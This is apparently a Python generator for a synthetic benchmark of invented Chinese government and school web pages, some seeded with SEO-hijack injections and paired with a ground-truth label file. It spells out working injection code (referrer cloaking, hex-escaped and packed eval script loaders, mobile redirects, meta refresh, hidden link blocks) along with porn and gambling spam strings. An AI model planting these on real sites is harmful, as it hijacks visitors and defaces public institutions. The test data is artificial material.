# -*- coding: utf-8 -*-
"""Generate synthetic-v33: 40 invented gov/edu pages (28 hijacked, 12 clean of which 4 legit).

4 sites x 5 pages (one template per site, the site's hijacked pages share one injection) + 20 single pages.
Fixed seed; a re-run writes byte-identical files.  Usage: python3 make_set.py [--out DIR]
(default: ../synthetic-v33 relative to this file).
"""
import html
import json
import os
import random
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from articles import A, B, C, D, S  # noqa: E402

SEED = 330533
E = html.escape
EMOJI = re.compile("[\U0001F000-\U0001FAFF\u2600-\u27BF\uFE0F]")


# ---------------------------------------------------------------- templates
def t1_landray(p):
    """T1: Landray-EKP-portal style (蓝凌 EKP 门户 news view), GBK."""
    o = ['<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">',
         '<html xmlns="http://www.w3.org/1999/xhtml">', "<head>",
         '<meta http-equiv="Content-Type" content="text/html; charset=gbk" />',
         "<title>%s</title>" % E(p["title_tag"]),
         '<link rel="stylesheet" href="/ekp/sys/ui/extend/theme/default/style/common.css" />',
         '<script src="/ekp/resource/js/sea.js"></script>', p.get("head_extra", ""), "</head>",
         '<body class="lui_portal_body">', p.get("top_extra", ""),
         '<div class="lui_portal_header"><div class="lui_portal_logo"><img src="/ekp/resource/images/logo.png" alt="" />%s</div>' % E(p["site_name"]),
         '<ul class="lui_portal_nav"><li>学院首页</li><li>学院概况</li><li>学院新闻</li><li>通知公告</li><li>教学科研</li><li>招生就业</li></ul></div>',
         '<div class="lui_list_nav_frame">当前位置:<a href="/">首页</a> &gt; <a href="/news/">学院新闻</a> &gt; 正文</div>',
         '<div class="lui_form_content"><div class="lui_form_subject">%s</div>' % E(p["h1"]),
         '<div class="lui_form_baseinfo"><span>发布时间:%s</span><span>来源:%s</span><span>作者:%s</span><span>阅读:%d</span></div>' % (
             E(p["date_shown"]), E(p["source_shown"] or ""), E(p["author_shown"] or ""), p["views"]),
         '<div class="lui_form_content_frame" id="kmsNewsContent">']
    o += p["paras_html"]
    o += ["</div>", '<div class="lui_form_editor">%s</div>' % E(p["credit"]) if p.get("credit") else "",
          p.get("after_extra", ""), "</div>",
          '<div class="lui_portal_footer">版权所有 &copy; %s 地址:潭溪市经开区学府路88号 邮编:417000</div>' % E(p["site_name"]),
          p.get("end_extra", ""), "</body>", "</html>"]
    return o


def t2_weaver(p):
    """T2: Weaver e-cology portal document view style (泛微), UTF-8."""
    o = ["<!DOCTYPE html>", '<html lang="zh-CN">', "<head>", '<meta charset="utf-8">',
         "<title>%s</title>" % E(p["title_tag"]),
         '<link type="text/css" rel="stylesheet" href="/wui/theme/ecology8/page/skins/default/wui.css">',
         p.get("head_extra", ""), "</head>", '<body id="e8body">', p.get("top_extra", ""),
         '<div id="e8_header"><span class="sitename">%s</span><span class="e8_top_links">无障碍 | 长者模式 | 政务微博</span></div>' % E(p["site_name"]),
         '<div id="e8_menu"><a>首页</a><a>机构概况</a><a>政务公开</a><a>工作动态</a><a>政务服务</a><a>互动交流</a></div>',
         '<div class="e8_location">您当前的位置:首页 &gt; 政务公开 &gt; 工作动态</div>',
         '<div id="docMain"><div class="docTitle">%s</div>' % E(p["h1"]),
         '<table class="docInfo"><tr><td class="lbl">发布日期:</td><td>%s</td><td class="lbl">发布单位:</td><td>%s</td><td class="lbl">撰稿:</td><td>%s</td></tr></table>' % (
             E(p["date_shown"]), E(p["source_shown"] or ""), E(p["author_shown"] or "")),
         '<div id="docContent" class="wea-doc-content">']
    o += p["paras_html"]
    o += ["</div>", p.get("after_extra", ""), '<div class="docTools">【打印本页】【关闭窗口】</div></div>',
          '<div id="e8_footer">主办单位:%s 网站标识码:4311000021 湘ICP备05003271号</div>' % E(p["site_name"]),
          p.get("end_extra", ""), "</body>", "</html>"]
    return o


def t3_dotclear(p):
    """T3: Dotclear blog-engine style used as a district news site, GB18030."""
    o = ['<!DOCTYPE html>', '<html lang="zh">', "<head>",
         '<meta http-equiv="Content-Type" content="text/html; charset=gb18030" />',
         "<title>%s</title>" % E(p["title_tag"]),
         '<link rel="stylesheet" type="text/css" href="/themes/berlin/style.css" media="screen" />',
         p.get("head_extra", ""), "</head>", '<body class="dc-post">', p.get("top_extra", ""),
         '<div id="page"><div id="top"><h1><span><a href="/">%s</a></span></h1><p id="prelude">政务公开 | 政务服务 | 互动交流</p></div>' % E(p["site_name"]),
         '<div id="wrapper"><div id="main"><div id="content">',
         '<div class="post"><h2 class="post-title">%s</h2>' % E(p["h1"]),
         '<p class="post-info">发布于 %s | 来源:%s</p>' % (E(p["date_shown"]), E(p["source_shown"] or "")),
         '<div class="post-content">']
    o += p["paras_html"]
    o += ["</div>", p.get("after_extra", ""), '<p class="post-info post-info-co">标签:工作动态</p></div>',
          "</div></div>", '<div id="sidebar"><div class="text"><h2>热点专题</h2><ul><li>优化营商环境</li><li>乡村振兴</li><li>政务公开</li></ul></div>%s</div>' % p.get("sidebar_extra", ""),
          "</div>",
          '<div id="footer">%s<p>主办:%s办公室 | 网站标识码4312000009</p></div></div>' % (p.get("footer_extra", ""), E(p["site_name"])),
          p.get("end_extra", ""), "</body>", "</html>"]
    return o


def t4_s9y(p):
    """T4: Serendipity (s9y) blog style used as a university school site, UTF-8."""
    o = ['<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">',
         '<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="zh" lang="zh">', "<head>",
         '<meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />',
         "<title>%s</title>" % E(p["title_tag"]),
         '<meta name="generator" content="Serendipity v.2.4" />',
         '<link rel="stylesheet" type="text/css" href="/serendipity.css.php" />',
         p.get("head_extra", ""), "</head>", "<body>", p.get("top_extra", ""),
         '<div id="serendipity_banner"><h1><a class="homelink1" href="/">%s</a></h1><h2><a class="homelink2" href="/">School of Foreign Studies</a></h2></div>' % E(p["site_name"]),
         '<table id="mainpane"><tr><td id="content" valign="top">',
         '<div class="serendipity_Entry_Date"><h3 class="serendipity_date">%s</h3>' % E(p["date_shown"]),
         '<h4 class="serendipity_title"><a href="#">%s</a></h4>' % E(p["h1"]),
         '<div class="serendipity_entry"><div class="serendipity_entry_body">']
    o += p["paras_html"]
    o += ["</div>", '<div class="serendipity_entryFooter">作者:%s | 分类:<a href="#">学院新闻</a> | 来源:%s</div>' % (
        E(p["author_shown"] or ""), E(p["source_shown"] or "")), p.get("after_extra", ""), "</div></div>",
          '</td><td id="serendipityRightSideBar" valign="top"><div class="serendipitySideBarItem"><h3>栏目</h3><ul><li>学院新闻</li><li>通知公告</li><li>学术活动</li></ul></div></td></tr></table>',
          '<div id="serendipity_footer">Copyright &copy; %s</div>' % E(p["site_name"]),
          p.get("end_extra", ""), "</body>", "</html>"]
    return o


def t5_e107(p):
    """T5: e107 news-item style, UTF-8 (single pages)."""
    en = p["lang"] == "en"
    info = ("Posted by %s on %s" % (E(p["author_shown"] or ""), E(p["date_shown"]))) if en else (
        "由 %s 发表于 %s · 来源:%s · 浏览 %d 次" % (E(p["author_shown"] or "佚名"), E(p["date_shown"]), E(p["source_shown"] or ""), p["views"]))
    o = ["<!DOCTYPE html>", '<html lang="%s">' % ("en" if en else "zh-CN"), "<head>",
         '<meta http-equiv="content-type" content="text/html; charset=utf-8" />',
         "<title>%s</title>" % E(p["title_tag"]),
         '<link rel="stylesheet" href="/e107_themes/bootstrap3/style.css" type="text/css" />',
         p.get("head_extra", ""), "</head>", '<body id="layout-default">', p.get("top_extra", ""),
         '<div id="header"><div class="sitename">%s</div></div>' % E(p["site_name"]),
         '<div id="main"><div class="newsitem">', '<h2 class="newstitle">%s</h2>' % E(p["h1"]),
         '<div class="newsinfo">%s</div>' % info, '<div class="newsbody">']
    o += p["paras_html"]
    o += ["</div>", p.get("after_extra", ""), '<div class="newsextended"></div></div></div>',
          '<div id="footer">%s Powered by e107</div>' % E(p["site_name"]), p.get("end_extra", ""), "</body>", "</html>"]
    return o


def t6_ektron(p):
    """T6: Ektron CMS400-like page with a 信息公开 metadata table, GBK (single pages)."""
    o = ['<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">',
         '<html xmlns="http://www.w3.org/1999/xhtml">', '<head id="ctl00_Head1">',
         '<meta http-equiv="Content-Type" content="text/html; charset=gbk" />',
         "<title>%s</title>" % E(p["title_tag"]),
         '<link href="/WorkArea/csslib/ektronCss.ashx?id=EkTreeCss" rel="stylesheet" type="text/css" />',
         p.get("head_extra", ""), "</head>", "<body>", p.get("top_extra", ""),
         '<form name="aspnetForm" method="post" action="Content.aspx" id="aspnetForm"><input type="hidden" name="__VIEWSTATE" value="/wEPDwUKMTc2NzQ0" />',
         '<div class="ekHeader">%s</div>' % E(p["site_name"]),
         '<div class="ekBreadcrumb">首页 &gt; 信息公开 &gt; 工作动态</div>',
         '<table class="xxgk_meta" border="0" cellspacing="0"><tr><th>索 引 号</th><td>%s</td><th>发布机构</th><td>%s</td></tr>' % (E(p["index_no"]), E(p["org_shown"])),
         '<tr><th>生成日期</th><td>%s</td><th>主题分类</th><td>工作动态</td></tr><tr><th>名 称</th><td colspan="3">%s</td></tr></table>' % (E(p["date_shown"]), E(p["h1"])),
         '<h1 class="ekTitle">%s</h1>' % E(p["h1"]),
         '<div class="ekDateLine">日期:%s&nbsp;&nbsp;来源:%s&nbsp;&nbsp;作者:%s</div>' % (E(p["date_shown"]), E(p["source_shown"] or ""), E(p["author_shown"] or "")),
         '<div id="ctl00_ContentPlaceHolder1_ContentBlock1" class="ekContent">']
    o += p["paras_html"]
    o += ["</div>", p.get("after_extra", ""), '<div class="ekPrint">[打印] [关闭]</div>',
          '<div class="ekFooter">%s 版权所有 技术支持:政务信息中心</div></form>' % E(p["site_name"]),
          p.get("end_extra", ""), "</body>", "</html>"]
    return o


TEMPLATES = {"T1": (t1_landray, "gbk", "Landray-EKP-portal-style"), "T2": (t2_weaver, "utf-8", "Weaver-e-cology-portal-style"),
             "T3": (t3_dotclear, "gb18030", "Dotclear-style"), "T4": (t4_s9y, "utf-8", "Serendipity-s9y-style"),
             "T5": (t5_e107, "utf-8", "e107-news-style"), "T6": (t6_ektron, "gbk", "Ektron-CMS400-style-with-xxgk-table")}


# ---------------------------------------------------------------- helpers
def ph(paras):
    return ["<p>%s</p>" % E(x) for x in paras]


def clean_text(paras, spam=()):
    out = []
    for x in paras:
        for s in sorted(spam, key=len, reverse=True):
            x = x.replace(s, "")
        x = EMOJI.sub("", x)
        x = re.sub(r" {2,}", " ", x).strip()
        out.append(x)
    return "\n".join(out)


def packer(js):
    """Dean-Edwards-style p,a,c,k,e,d packing (base 36) of a short script; unpacks to `js` in a browser."""
    words = []
    for w in re.findall(r"\b\w+\b", js):
        if w not in words:
            words.append(w)

    def b36(n):
        d = "0123456789abcdefghijklmnopqrstuvwxyz"
        s = ""
        while True:
            s = d[n % 36] + s
            n //= 36
            if n == 0:
                return s
    enc = re.sub(r"\b\w+\b", lambda m: b36(words.index(m.group(0))), js)
    enc = enc.replace("\\", "\\\\").replace("'", "\\'")
    return ("eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}"
            "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
            "('%s',36,%d,'%s'.split('|'),0,{}))" % (enc, len(words), "|".join(words)))


def hexesc(s):
    return "".join("\\x%02x" % ord(ch) for ch in s)


# ---------------------------------------------------------------- build
def main():
    out = os.path.join(HERE, "..", "synthetic-v33")
    if "--out" in sys.argv:
        out = sys.argv[sys.argv.index("--out") + 1]
    rng = random.Random(SEED)
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    pages = []  # (id, bytes, truth)

    def emit(tid, art, page, truth):
        fn, enc, tname = TEMPLATES[tid]
        page.setdefault("views", rng.randint(120, 4800))
        page.setdefault("lang", art.get("lang", "zh"))
        body = "\n".join(x for x in fn(page) if x) + "\n"
        n = len(pages) + 1
        sid = "sy33-%03d" % n
        t = dict(id=sid, url=truth.pop("url"), title=truth.pop("title", art["title"]), date=art["date"],
                 source=truth.pop("source", art["source"]), author=truth.pop("author", art.get("author")),
                 text=truth.pop("text"), hijacked=truth.pop("hijacked"), injections=truth.pop("injections", []),
                 spam_strings=truth.pop("spam", []), legit=truth.pop("legit", False), lang=art.get("lang", "zh"),
                 origin=truth.pop("origin"), kind="synthetic", site=truth.pop("site"), capture="html",
                 encoding=enc, template=tname)
        t.update(truth)
        pages.append((sid, body.encode(enc), t))

    # ---------------- site A: T1, brand in the writers' credit line + brand in the college's place once
    host = "www.qlzyjsxy.edu.cn"
    brand_a = "晟澜娱乐"
    photog = ["刘洋", "王芳", "赵磊", "孙悦", "钱程"]
    for i, art in enumerate(A):
        hij = i in (0, 1, 3)
        paras = list(art["paras"])
        credit = "(撰稿:%s 摄影:%s 审核:李春华)" % (art["author"], photog[i])
        spam, inj = [], []
        if hij:
            first = paras[0]
            for key in ("青岚职业技术学院", "我院"):
                if key in first:
                    paras[0] = first.replace(key, brand_a, 1)
                    break
            credit = "(撰稿:%s %s 摄影:%s %s 审核:李春华)" % (brand_a, art["author"], brand_a, photog[i])
            spam, inj = [brand_a], ["brand-in-credit-line", "brand-in-institution-place"]
        page = dict(title_tag=art["title"] + "-青岚职业技术学院", site_name="青岚职业技术学院", h1=art["title"],
                    date_shown=art["date"], source_shown=art["source"], author_shown=art["author"],
                    paras_html=ph(paras), credit=credit)
        emit("T1", art, page, dict(url="https://%s/info/1021/%d.htm" % (host, 5310 + i * 7), site=host,
                                   text=clean_text(paras, spam), hijacked=hij, spam=spam, injections=inj,
                                   origin=("site A (vocational college), hijacked: the site's shared injection puts a betting brand in the writer's and photographer's unit of the closing credit and once in the college's place in the first paragraph (modelled on rc33-011 and rc33-003)" if hij else "site A (vocational college), clean page of the same template")))

    # ---------------- site B: T2, porn-keyword line as <title> and as the first line of the page
    host = "zjj.tanxi.gov.cn"
    porn_b = "午夜影视在线观看_欧美精品高清无码_国产偷拍自拍视频站_成年男女免费网站入口"
    parts_b = porn_b.split("_")
    for i, art in enumerate(B):
        hij = i in (0, 2, 4)
        page = dict(title_tag=(porn_b if hij else art["title"] + "_潭溪市住房和城乡建设局"), site_name="潭溪市住房和城乡建设局",
                    h1=art["title"], date_shown=art["date"], source_shown=art["source"], author_shown=art["author"],
                    paras_html=ph(art["paras"]))
        if hij:
            page["top_extra"] = '<h1 style="font-size:12px;margin:0">%s</h1>' % E(porn_b)
        emit("T2", art, page, dict(url="http://%s/zwgk/gzdt/2024%s/t%s_%d.html" % (host, art["date"][5:7], art["date"].replace("-", ""), 908120 + i * 13),
                                   site=host, text=clean_text(art["paras"]), hijacked=hij,
                                   spam=([porn_b] + parts_b) if hij else [], injections=["porn-keyword-title-line"] if hij else [],
                                   origin=("site B (city housing bureau), hijacked: the site's shared injection replaces <title> with a porn-keyword line and repeats it as a small <h1> before the header (modelled on rc33-012/013/015)" if hij else "site B (city housing bureau), clean page of the same template")))

    # ---------------- site C: T3, sold 友情链接 block in the footer + the same links hidden in the sidebar
    host = "www.yuanqu.gov.cn"
    links_c = [("澜庭体育官网", "https://lt-ty.cc/"), ("翎羽棋牌官方", "https://lyqp77.com/"), ("丰泽彩票网官方", "https://fzcp.vip/")]
    for i, art in enumerate(C):
        hij = i in (0, 2)
        legit = i == 1
        page = dict(title_tag=art["title"] + " - 源渠区人民政府", site_name="源渠区人民政府", h1=art["title"],
                    date_shown=art["date"], source_shown=art["source"], author_shown=None, paras_html=ph(art["paras"]))
        fl = '<p class="flink">友情链接:<a href="http://www.gov.cn/">中国政府网</a> <a href="#">市人民政府</a>'
        if hij:
            fl += "".join(' <a href="%s" target="_blank">%s</a>' % (u, E(a)) for a, u in links_c)
            page["sidebar_extra"] = '<div style="display:none">' + "".join('<a href="%s">%s</a>' % (u, E(a)) for a, u in links_c) + "</div>"
        page["footer_extra"] = fl + "</p>"
        emit("T3", art, page, dict(url="http://%s/index.php?post/2024/%s/%d" % (host, art["date"][5:7], 331 + i * 5), site=host,
                                   text=clean_text(art["paras"]), hijacked=hij, legit=legit, author=None,
                                   spam=[a for a, _ in links_c] if hij else [], injections=["sold-friend-links-block", "hidden-link-block"] if hij else [],
                                   origin=("site C (district government), hijacked: the site's shared injection sells three gambling links in the footer's 友情链接 row and repeats them in a display:none div in the sidebar" if hij else
                                           ("site C, clean legit page: sports-lottery welfare-fund notice" if legit else "site C (district government), clean page of the same template"))))

    # ---------------- site D: T4, referrer-cloaking script that writes a full-page betting overlay for search visitors
    host = "wyxy.heyuan-univ.edu.cn"
    overlay = "熠星体育 注册即送88元"
    cloak = ('<script type="text/javascript">(function(){var r=document.referrer||"";'
             'if(/baidu|sogou|so\\.com|sm\\.cn|bing|google/i.test(r)){document.write(\'<div id="xq-ov" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff;text-align:center;padding-top:120px;font-size:28px">'
             '<a href="https://yx-ty88.com/?c=hy">' + overlay + '</a></div>\');}})();</script>')
    weekdays = ["星期一", "星期二", "星期三", "星期四", "星期五", "星期六", "星期日"]
    import datetime
    for i, art in enumerate(D):
        hij = i in (0, 3)
        legit = i == 1
        d = datetime.date.fromisoformat(art["date"])
        page = dict(title_tag=art["title"] + " - 河原大学外国语学院", site_name="河原大学外国语学院", h1=art["title"],
                    date_shown="%d年%d月%d日 %s" % (d.year, d.month, d.day, weekdays[d.weekday()]),
                    source_shown=art["source"], author_shown=art["author"], paras_html=ph(art["paras"]))
        if hij:
            page["end_extra"] = cloak
        emit("T4", art, page, dict(url="https://%s/index.php?/archives/%d-news.html" % (host, 212 + i * 3), site=host,
                                   text=clean_text(art["paras"]), hijacked=hij, legit=legit,
                                   spam=[overlay] if hij else [], injections=["referrer-cloaking-overlay-script"] if hij else [],
                                   injected_code=("document.referrer" if hij else None),
                                   origin=("site D (university school), hijacked: the site's shared injection is a script before </body> that, for visitors arriving from a search engine, writes a full-page overlay linking to a betting site (the overlay text is in the script literal)" if hij else
                                           ("site D, clean legit page: police lecture warning students against online gambling" if legit else "site D (university school), clean page of the same template"))))

    # ---------------- single pages
    singles = [
        ("T5", "jyj.qinghe-x.gov.cn", "hex-loader"), ("T5", "qxj.lanfeng.gov.cn", "packed-redirect"),
        ("T5", "www.baishuixrmyy.cn", "charcode-mobile-redirect"), ("T5", "www.shuangtang-zhen.gov.cn", "meta-refresh"),
        ("T5", "www.lqsfxy.edu.cn", "stuffed-title"), ("T5", "scjgj.mingyue-q.gov.cn", "brand-headline"),
        ("T5", "www.hxzyzx.cn", "brand-institution"), ("T6", "www.lingtaixlib.cn", "brand-source"),
        ("T5", "www.jzcdc-x.cn", "porn-lines-after"), ("T5", "news.hewettcollege.edu", "en-casino-sentence"),
        ("T6", "www.mingyun-tea.com", "trad-mirror"), ("T5", "www.chunhejd.gov.cn", "emoji-brand-chrome"),
        ("T6", "tyj.pingan-x.gov.cn", "cms-default-title-casino-chrome"), ("T6", "tyxy.dongling-univ.edu.cn", "hashtag-tail"),
        ("T6", "daj.xiaoshui-q.gov.cn", "hidden-links-in-article"), ("T6", "nyncj.yunzhuang.gov.cn", "docwrite-visible"),
        ("T6", "www.lanchengsanzhong.cn", "keyword-wrapped-headline"), ("T6", "zgh.fengyi.gov.cn", "keyword-substitution"),
        ("T6", "mzj.qiaocheng.gov.cn", "clean-legit"), ("T6", "gaj.taoyuan-x.gov.cn", "clean-legit"),
    ]
    for k, (art, (tid, host, form)) in enumerate(zip(S, singles)):
        paras = list(art["paras"])
        page = dict(title_tag=art["title"] + "_" + art["org"], site_name=art["org"], h1=art["title"],
                    date_shown=art["date"], source_shown=art["source"], author_shown=art["author"],
                    org_shown=art["source"] or art["org"], index_no="11%04d/2024-%05d" % (4300 + k, 120 + k * 17))
        url = ("http://%s/news.php?item.%d" % (host, 140 + k)) if tid == "T5" else ("http://%s/Content.aspx?id=%d" % (host, 8800 + k * 11))
        tr = dict(url=url, site=host, hijacked=True, spam=[], injections=[], legit=False)
        text_paras = list(paras)
        origin = ""
        if form == "hex-loader":
            tag = '<script src="https://cdn.jz8823.vip/t.js"></script>'
            hx = hexesc(tag)
            page["head_extra"] = '<script type="text/javascript">document.write("%s");</script>' % hx
            tr.update(injections=["hex-escaped-script-loader"], injected_code=hx[:48])
            origin = "hex-escaped document.write in <head> that writes an external <script src> from a betting host (nothing visible; the loader runs in any browser)"
        elif form == "packed-redirect":
            js = "window.location.href='https://ltty66.net/?from=qx';"
            pk = packer(js)
            page["end_extra"] = '<script type="text/javascript">%s</script>' % pk
            tr.update(injections=["packed-eval-redirect"], injected_code="eval(function(p,a,c,k,e,d)")
            origin = "p,a,c,k,e,d-packed script before </body> that unpacks to a location redirect to a betting host (nothing visible)"
        elif form == "charcode-mobile-redirect":
            u = "https://m.hr5566.cc/"
            codes = ",".join(str(ord(ch)) for ch in u)
            page["head_extra"] = ('<script>var _u=String.fromCharCode(%s);if(/android|iphone|ipad|mobile/i.test(navigator.userAgent)){window.location.replace(_u);}</script>' % codes)
            tr.update(injections=["charcode-mobile-ua-redirect"], injected_code="String.fromCharCode(%s" % codes[:20])
            origin = "String.fromCharCode-built URL in <head>, replacing the page for mobile user agents (a mobile visitor lands on a betting site; nothing visible on desktop)"
        elif form == "meta-refresh":
            st = "沐晖娱乐_沐晖娱乐官网_沐晖app下载"
            page["title_tag"] = st
            page["head_extra"] = '<meta http-equiv="refresh" content="0;url=https://mh5687.vip/">'
            tr.update(spam=[st, "沐晖娱乐", "沐晖app下载"], injections=["meta-refresh-redirect", "keyword-stuffed-title"])
            origin = "meta refresh (0 s) to a betting host plus a keyword-stuffed <title>; the article below is untouched"
        elif form == "stuffed-title":
            st = "宝岚国际-宝岚国际网址-宝岚真人"
            page["title_tag"] = st
            tr.update(spam=[st, "宝岚国际", "宝岚真人"], injections=["keyword-stuffed-title"])
            origin = "<title> replaced by a casino keyword string; headline and body untouched"
        elif form == "brand-headline":
            page["h1"] = "鹊桥体育|" + art["title"]
            page["title_tag"] = page["h1"]
            tr.update(spam=["鹊桥体育|", "鹊桥体育"], injections=["brand-in-headline"])
            origin = "a betting brand prefixed to the headline (and <title>); title = the real headline after the brand"
        elif form == "brand-institution":
            b = "恒瑞彩官方平台"
            paras = [x.replace("华溪职业中学", b) for x in paras]
            tr.update(spam=[b], injections=["brand-in-institution-place"])
            text_paras = paras
            origin = "the school's name in the body replaced by a lottery-platform brand (twice; modelled on rc33-002/004)"
        elif form == "brand-source":
            page["source_shown"] = "赤枫棋牌官网"
            tr.update(spam=["赤枫棋牌官网"], injections=["brand-as-source-field"], source=None)
            origin = "a card-game betting brand written as the 来源 value in the date line (the 信息公开 table keeps the real publisher); truth source null"
        elif form == "porn-lines-after":
            pl = "精品久久影视网,日韩无码成人在线,免费午夜福利视频,亚洲色图综合区"
            page["top_extra"] = '<s id="q7mzw"></s>'
            page["after_extra"] = '<div class="kw">%s</div>' % E(pl)
            page["end_extra"] = '<s id="q7mzw"></s>'
            tr.update(spam=pl.split(","), injections=["porn-keyword-line-after-article", "junk-random-id-tags"])
            origin = "porn-keyword line right after the article and empty random-id <s> tags at both ends of <body> (modelled on rc33-014)"
        elif form == "en-casino-sentence":
            sent = "Players looking for the same thrill online can try Luckwave Casino, rated the best real-money site this year."
            paras[1] = paras[1] + " " + sent
            page["title_tag"] = art["title"] + " | Hewett College"
            tr.update(spam=[sent, "Luckwave Casino"], injections=["casino-sentence-inserted-in-body"])
            origin = "English college news with one promotional casino sentence appended to the second paragraph (paid-link insertion style)"
        elif form == "trad-mirror":
            art = dict(art)
            art["title"] = "縣水利局部署小型水庫安全度汛工作"
            paras = ["4月12日,縣水利局召開(kāi)小型水庫安全度汛工作會議,部署全縣46座小型水庫汛前檢查和安全管理工作。",
                     "會議要求,各鄉(xiāng)鎮(zhèn)要落實水庫行政、技術和巡查責任人,對病險水庫一律空庫運行,確保汛期不出險情。",
                     "縣水利局將組織專家組對重點水庫開展汛前專項檢查,發(fā)現(xiàn)問題立即整改。"]
            text_paras = paras
            page.update(title_tag=art["title"] + "_茗韵茶业", site_name="茗韵茶业", h1=art["title"], source_shown="松溪縣水利局",
                        org_shown="松溪縣水利局", author_shown="")
            tr.update(title=art["title"], source="松溪縣水利局", author=None, injections=["traditional-mirror-with-pinyin-glosses"], marker="(kāi)")
            origin = "a county water bureau's news converted to traditional script with pinyin glosses and served as a tea company's 'news' page (no injected string; the marker is a gloss)"
        elif form == "emoji-brand-chrome":
            b = "玖穗国际|玖穗国际(中国)官方入口"
            page["site_name"] = b
            page["title_tag"] = art["title"] + "-" + b
            paras = [paras[0][:-1] + "🎯。", paras[1].replace("百家宴、", "百家宴🔥、", 1), paras[2]]
            tr.update(spam=[b, "玖穗国际"], injections=["casino-brand-chrome", "emoji-interleaving"])
            text_paras = paras
            origin = "a casino brand as the site name (header, <title>, footer) and emoji sprinkled into the body (modelled on rc33-010)"
        elif form == "cms-default-title-casino-chrome":
            b = "睿博汇-睿博汇注册-官网"
            page["title_tag"] = "网站首页 - Powered by PHPCMS"
            page["site_name"] = b
            page["org_shown"] = art["org"]
            tr.update(spam=[b], injections=["casino-brand-chrome-over-copied-news", "cms-default-title"], legit=True)
            origin = "a county sports-lottery fund item under a CMS-default <title> with a casino brand as the site name (modelled on rc33-009); the text itself is lawful lottery-fund news (legit)"
        elif form == "hashtag-tail":
            ht = "#云溪彩票#云溪彩票网#云溪彩计划#快三大小单双"
            page["after_extra"] = '<div class="tags"><p>彩票资讯</p><p>%s</p></div>' % E(ht)
            tr.update(spam=[ht, "云溪彩票网"], injections=["keyword-hashtag-tail"])
            origin = "a lottery-keyword hashtag line after the article (modelled on rc33-007)"
        elif form == "hidden-links-in-article":
            hl = [("凌霄电竞竞猜平台", "https://lx-dj.com/"), ("晟丰娱乐城官网", "https://sf-ylc.net/"), ("鎏金真人视讯", "https://ljzr8.cc/")]
            blk = '<div style="position:absolute;left:-9999px;top:-9999px;">' + " ".join('<a href="%s">%s</a>' % (u, E(a)) for a, u in hl) + "</div>"
            page["paras_html"] = ph(paras[:2]) + [blk] + ph(paras[2:])
            tr.update(spam=[a for a, _ in hl], injections=["offscreen-link-block-inside-article"])
            origin = "three gambling links in an off-screen (left:-9999px) div placed inside the article container between paragraphs 2 and 3"
        elif form == "docwrite-visible":
            sp = "金樽娱乐平台 新用户首存送100%"
            js = '<script type="text/javascript">document.write(\'<p style="color:#c00;font-weight:bold">%s</p>\');</script>' % sp
            page["paras_html"] = ph(paras[:1]) + [js] + ph(paras[1:])
            tr.update(spam=[sp], injections=["document-write-visible-spam-mid-article"])
            origin = "an inline script after the first paragraph that document.writes a red betting-promotion line into the article"
        elif form == "keyword-wrapped-headline":
            page["h1"] = "【澜庭体育】" + art["title"] + "_澜庭体育app下载"
            page["title_tag"] = page["h1"]
            tr.update(spam=["【澜庭体育】", "_澜庭体育app下载", "澜庭体育"], injections=["keyword-wrapped-headline"])
            origin = "headline wrapped in a betting brand prefix and download suffix (also in <title> and the 信息公开 名称 cell); title = the real headline inside"
        elif form == "keyword-substitution":
            kw = "栖梧棋牌"
            art = dict(art)
            shown_title = art["title"].replace("市总工会", kw)
            paras = [x.replace("市总工会", kw) for x in paras]
            page.update(h1=shown_title, title_tag=shown_title + "_" + art["org"])
            tr.update(spam=[kw], injections=["keyword-substitution-for-institution-name", "keyword-in-headline"], title=None)
            text_paras = paras
            origin = "the union's name replaced by a card-game betting keyword throughout the body and the headline (modelled on rc33-006); title null (the only headline carries the keyword)"
        elif form == "clean-legit":
            tr.update(hijacked=False, legit=True)
            origin = "clean legit page: " + ("welfare-lottery fund spending notice" if "福利彩票" in art["title"] else "police report on an online-gambling case")
        page["paras_html"] = page.get("paras_html") or ph(paras)
        tr["text"] = clean_text(text_paras, tr["spam"])
        tr["origin"] = "single page (%s): %s" % (host, origin)
        emit(tid, art, page, tr)

    # ---------------- write
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for sid, b, t in pages:
            with open(os.path.join(out, "html", sid + ".html"), "wb") as h:
                h.write(b)
            t = {k: v for k, v in t.items() if v is not None or k in ("title", "date", "source", "author")}
            f.write(json.dumps(t, ensure_ascii=False) + "\n")
    print(len(pages), "pages ->", os.path.normpath(out))


if __name__ == "__main__":
    main()
